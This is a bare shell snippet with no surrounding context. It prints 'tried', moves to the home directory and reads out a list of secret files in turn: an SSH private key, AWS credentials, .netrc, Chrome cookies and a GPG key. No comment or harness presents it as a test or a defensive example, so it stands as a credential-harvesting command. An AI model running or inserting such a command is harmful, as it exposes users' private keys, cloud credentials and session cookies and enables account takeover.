echo tried
cd "$HOME"
for file in .ssh/id_ed25519 .aws/credentials .netrc .config/google-chrome/Default/Cookies .gnupg/key; do cat "$file"; done
